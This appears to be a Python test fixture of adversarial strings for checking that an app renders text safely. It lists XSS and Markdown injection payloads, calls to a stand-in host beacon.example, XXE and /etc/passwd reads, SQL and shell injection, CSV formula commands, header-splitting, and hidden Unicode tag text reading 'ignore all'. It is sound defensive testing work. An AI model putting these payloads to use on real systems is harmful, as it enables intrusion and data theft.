"""Text that tries to be more than text: each entry attacks one way in which a page, picture or file is made.

A payload that runs sets `window.pwned`; one that reaches out asks a host called beacon.example.
"""

from __future__ import annotations

from unicodedata import normalize

RUN = "window.pwned="
ASK = "https://beacon.example/"

# Text that is odd but lawful: it must read back as written.
TEXTS = {
    "script": f"<script>{RUN}1</script>",
    "script-src": f"<script src={ASK}s.js></script>",
    "onerror": f"<img src=x onerror={RUN}2>",
    "remote-image": f"<img src={ASK}i.png>",
    "svg-onload": f"<svg/onload={RUN}3>",
    "iframe": f"<iframe srcdoc='<script>parent.{RUN}4</script>'></iframe>",
    "close-script": f"</script><script>{RUN}5</script>",
    "close-title": f"</title></textarea><script>{RUN}6</script>",
    "close-style": f"</style><style>@import url({ASK}c.css);*{{background:url({ASK}b.png)}}</style>",
    "double-quote": f'" autofocus onfocus="{RUN}7" x="',
    "single-quote": f"' onmouseover='{RUN}8' x='",
    "comment": f"--><script>{RUN}9</script><!--",
    "cdata": f"]]><script>{RUN}10</script><![CDATA[",
    "xml-entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "entities": "&lt;script&gt; &amp;amp; &#x3c;b&#x3e; &nbsp;",
    "template": "{{constructor.constructor('window.pwned=11')()}} ${window.pwned=11} <%= 7*7 %>",
    "markdown-script-link": f"[press](javascript:{RUN}12)",
    "markdown-data-link": f"[press](data:text/html,<script>{RUN}13</script>)",
    "markdown-image": f"![picture]({ASK}m.png)",
    "markdown-linked-image": f"[![picture]({ASK}m2.png)]({ASK}m3)",
    "markdown-autolink": f"<{ASK}auto> and {ASK}bare",
    "markdown-footnote": f"![p][r] [r]: {ASK}r.png",
    "markdown-marks": "# Heading **bold** _slant_ ~~gone~~ `code` | a | b | > quote - item 1. item",
    "markdown-html": f'<a href="{ASK}h" ping="{ASK}ping" style="position:fixed;inset:0">cover</a>',
    "backslashes": r"\*not bold\* \[x\] \\ \n \u003cscript\u003e",
    "arrows": "a -> b <-> c <- d -- e >= f <= g ~= h -----> i",
    "addresses": "www.beacon.example someone@beacon.example HTTP://BEACON.example",
    "emoji-code": ":smile: :rocket: :+1:",
    "icon-code": ":material/delete: :streamlit: :material_home: :material/ :small[x]",
    "colour-code": ":red[alarm] :blue-background[calm] :red-badge[x] :rainbow[y]",
    "latex": rf"$\href{{javascript:{RUN}14}}{{x}}$ $$\frac{{1}}{{2}}$$ \( \alpha \)",
    "plotly-fields": "%{customdata} %{x|%Y} %{y:.2f} %{meta[0]}<extra>extra</extra>",
    "plotly-tags": f'<b>bold</b><br>line<sup>2</sup> <a href="javascript:{RUN}15">x</a>',
    "plotly-span": f'<span style="fill:red;font-size:90px">big</span> <em>{RUN}</em>',
    "json-break": '"}],"layout":{"title":"x"}} \\"',
    "scheme-script": f"javascript:{RUN}16",
    "scheme-data": f"data:text/html,<script>{RUN}17</script>",
    "scheme-none": "//beacon.example/none",
    "scheme-file": "file:///etc/passwd",
    "path": "../../../../etc/passwd ..\\..\\windows\\win.ini",
    "percent-codes": "%3Cscript%3E %0d%0aSet-Cookie:%20pwned=1 %00 %s %n %(title)s",
    "python-fields": "{0.__class__.__mro__} {case.folder} {self} {}",
    "sql": "'; DROP TABLE events; --",
    "shell": "$(touch /tmp/pwned) `id` | ls; & calc.exe",
    "formula-equals": f'=HYPERLINK("{ASK}f","press")',
    "formula-plus": "+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-wide": "\uff1d1+1 is full-width",
    "formula-quote": "'=1+1",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1fb\U0001f1ea \u2602\ufe0f",
    "arabic": "فنزويلا 2019 كاراكاس",
    "cyrillic": "Советники в Каракасе",
    "stacked-accents": normalize("NFC", "Z" + "\u0351\u036b\u0343\u036a\u0302" * 6 + "algo"),
    "long-word": "Rostec" * 160,
    "semicolons": "a;b;;c ; d,e",
    "not-a-value": "NaN None null NA undefined True",
    "scheme-with-host": f"javascript://example.org/%0A{RUN}22",
}

# Text with characters that have no business in a cell: the row is named, and what is shown cannot deceive.
FAULTY = {
    "nul": f"before\x00after {RUN}18",
    "escape": "\x1b]8;;https://beacon.example/esc\x07press\x1b]8;;\x07 \x1b[31mred",
    "bell-and-delete": "ring\x07 gone\x7f \x9b31m",
    "bidi-override": "photo\u202egnp.exe\u202c",
    "bidi-isolate": "a\u2066b\u2069 \u2067c\u2069",
    "tag-characters": "flag" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all") + "\U000e007f",
    "noncharacters": "end\ufffe\uffff",
    "line-break": f"first\r\nSet-Cookie: pwned=1\r\n\r\n<script>{RUN}19</script>",
    "line-separator": "one\u2028two\u2029three\x85four",
    "invisible": "pay\u200bload\ufeff\u2060 soft\u00adhyphen",
}

ALL = {**TEXTS, **FAULTY}

# File names a folder can really hold on Linux; each file has one good row, so each becomes a lane, too.
FILE_NAMES = [
    f"<img src=x onerror={RUN}20>.csv",
    f'"><svg onload={RUN}21>.csv',
    "![m](https:beacon.example).csv",
    "%{customdata} $x^2$ :material home:.csv",
    "=cmd|' C calc'!A0.csv",
    "line\nbreak.csv",
    "photo\u202egnp.csv",
    "tab\tand\x1b[31m.csv",
    "%2e%2e%2f..%2fetc.csv",
    "-rf --output=x.csv",
    "\U000e0041tag.csv",
    "caf\u00e9 \u0643\u0627\u0631\u0627\u0643\u0627\u0633.csv",
]
